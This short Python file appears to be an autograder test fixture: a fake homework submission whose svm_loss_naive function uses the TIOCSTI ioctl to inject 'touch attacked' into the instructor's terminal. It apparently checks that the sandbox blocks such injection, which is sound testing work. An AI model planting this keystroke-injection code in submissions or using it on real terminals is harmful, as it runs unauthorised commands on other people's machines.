"""Type a command into the instructor's terminal.

Fails: the process has no terminal.
"""

import fcntl
import termios

from . import honest

svm_loss_vectorized = honest.svm_loss_vectorized


def svm_loss_naive(W, X, y, reg):
    with open("/dev/tty", "w") as terminal:
        for letter in b"touch attacked\n":
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
